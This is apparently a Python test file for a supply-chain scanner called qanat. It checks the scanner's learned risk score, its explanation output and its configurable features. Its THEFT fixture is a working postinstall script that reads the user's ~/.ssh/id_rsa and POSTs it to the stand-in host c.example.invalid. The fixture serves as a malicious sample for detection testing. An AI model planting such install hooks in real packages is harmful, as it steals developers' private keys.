"""The learned score beside the verdict: that it adds up, that it never changes anything, and that features are data."""
import json
import os
import shutil

from tap import check, done, ok, package, put, Run, scratch, tgz_of, without_times

DATA = os.environ["QANAT_DATA"]
THEFT = """const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
const req = https.request({ host: 'c.example.invalid', method: 'POST' });
req.end(key);
"""


def bad(d, **more):
    return put(f"{d}/bad.tgz", tgz_of({"package.json": package(scripts={"postinstall": "node setup.js"}), "setup.js": THEFT, **more}))


def plain(d):
    return put(f"{d}/plain.tgz", tgz_of({"package.json": package("plain", main="index.js"), "index.js": "exports.one = () => 1;\n"}))


def data_of(d, name, model=None, features=None):
    """A data directory with another model, or (model False) with none."""
    to = f"{d}/{name}"
    shutil.copytree(DATA, to, symlinks=True)
    if model is False:
        os.remove(f"{to}/score/model.yaml")
    elif model:
        put(f"{to}/score/model.yaml", model)
    if features:
        put(f"{to}/score/features.yaml", features)
    return to


def learned_of(run):
    return run.json["results"][0].get("learned")


def adds_up(d):
    r = check("--offline", "--no-intel", bad(d))
    l = learned_of(r)
    ok(r.code == 1 and set(l) == {"model", "score", "logit", "bias", "contributions"}, "JSON has the score beside the verdict", r)
    ok(all(set(c) == {"feature", "title", "value", "points"} for c in l["contributions"]), "and what it adds up from", l)
    points = [c["points"] for c in l["contributions"]]
    ok(round(1000 * l["bias"]) + sum(round(1000 * p) for p in points) == round(1000 * l["logit"]), "points and bias sum up to the logit", l)
    ok(points == sorted(points, reverse=True) and points[-1] > 0, "the most points first, none without", points)
    calm = learned_of(check("--offline", "--no-intel", plain(d)))
    ok(calm["score"] < 10 and calm["contributions"] == [] and calm["logit"] == calm["bias"], "nothing seen: the bias alone", calm)
    ok(l["score"] > 50, "a theft has a high score", l["score"])
    ok(without_times(r.out) == without_times(check("--offline", "--no-intel", bad(d)).out), "two runs give the same bytes", r)
    more = learned_of(check("--offline", "--no-intel", "--explain", bad(d)))
    ok(more["features"]["flow-theft"] == 1 and {c["feature"] for c in l["contributions"]} <= set(more["features"]),
       "--explain adds the values of all features", more)


def in_text(d):
    r = Run("check", "--offline", "--no-intel", "--explain", bad(d))
    ok(f"Learned score {learned_of(check('--offline', '--no-intel', bad(d)))['score']} of 100" in r.out.decode(), "--explain shows it", r)
    ok(b"commands that run at installation (1)" in r.out and b"to begin with" in r.out, "with its parts", r)
    r = Run("check", "--offline", "--no-intel", bad(d), plain(d))
    ok(b"Learned" not in r.out, "without --explain the text is silent about it", r)
    ok(b"Learned" in Run("check", "--offline", "--no-intel", "--explain", plain(d)).out, "a clean package has one too", "")


def changes_nothing(d):
    """Whatever the model says, all else of a report stays, byte for byte."""
    loud = "version: 2\nbias: 99\nweights: {}\n"
    dirs = [DATA, data_of(d, "none", False), data_of(d, "loud", loud), data_of(d, "quiet", loud.replace("99", "-99"))]
    targets = [bad(d), plain(d), put(f"{d}/broken.tgz", b"\x1f\x8b\x08\x00cut")]
    reports, texts, codes, scores = set(), set(), set(), []
    for data in dirs:
        r = check("--offline", "--no-intel", "--data", data, *targets)
        doc = json.loads(without_times(r.out))
        scores.append([result.pop("learned", {}).get("score") for result in doc["results"]])
        reports.add(json.dumps(doc))
        codes.add(r.code)
        for form in (["--format", "sarif"], []):
            t = Run("check", "--offline", "--no-intel", "--data", data, *form, *targets).out
            texts.add(t if form else t.split(b" checked in ")[0])
    ok(len(reports) == 1 and len(codes) == 1, "verdicts, findings and exit status are the same with any model and with none", reports)
    ok(len(texts) == 2, "so are text and SARIF", texts)
    ok(any(100 in s for s in scores) and any(0 in s for s in scores) and all(s is None for s in scores[1]), "though the scores differ", scores)
    ok(all(s.count(None) >= 1 for s in scores), "what could not be read has none", scores)


def of_events(d):
    events = Run("events", "--format", "json", bad(d)).out
    path = put(f"{d}/e.ndjson", events)
    judged = learned_of(Run("judge", "--format", "json", path))
    ok(judged == learned_of(check("--offline", "--no-intel", bad(d))), "stored events have the score that the package has", judged)
    ok(b"Learned score" in Run("judge", "--explain", path).out, "qanat judge --explain shows it", "")


def is_data(d):
    own = "features:\n- id: mine\n  title: starts with npm\n  group: details\n  when: {event: install.hook, command: {starts: node}}\n"
    data = data_of(d, "own", "version: 9\nbias: -1.5\nweights:\n  mine: 2.25\n", own)
    l = learned_of(check("--offline", "--no-intel", "--data", data, bad(d)))
    ok(l == {"model": 9, "score": 68, "logit": 0.75, "bias": -1.5,
             "contributions": [{"feature": "mine", "title": "starts with npm", "value": 1, "points": 2.25}]},
       "features and weights are changed without a build", l)
    for name, model, features, words in (
        ("m1", "version: 1\nbias: 0\nweights: {gone: 1}\n", None, b"no feature \"gone\""),
        ("m2", "version: 1\nbias: 0\nweights: {flow-theft: -1}\n", None, b"model.yaml:3:"),
        ("m3", None, own.replace("install.hook", "install.hok"), b"did you mean \"install.hook\""),
        ("m4", None, own.replace("when: {", "when: {not: {").replace("}}\n", "}}}\n"), b"may not say not:"),
    ):
        r = check("--offline", "--no-intel", "--data", data_of(d, name, model, features), plain(d))
        ok(r.code == 2 and words in r.err and not r.out, f"a mistake is told with its place: {words.decode()}", r)


with scratch() as d:
    for part in (adds_up, in_text, changes_nothing, of_events, is_data):
        part(d)
done()
